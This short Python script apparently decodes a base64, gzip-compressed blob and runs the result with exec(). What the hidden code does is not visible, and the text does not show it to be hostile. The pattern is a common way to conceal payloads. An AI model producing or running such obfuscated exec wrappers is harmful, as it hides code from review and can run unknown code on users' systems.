import gzip, base64
exec(gzip.decompress(base64.b64decode('H4sIAHElE2sC/8vMLcgvKlHIL+bKL9YrriwuSc3VUE8uLcpR0C1WyCgpKbDS1ze0tNAzNdQzNDDQMzPSr1CoUSjOUNfkAgAVWxSTOwAAAA==')))
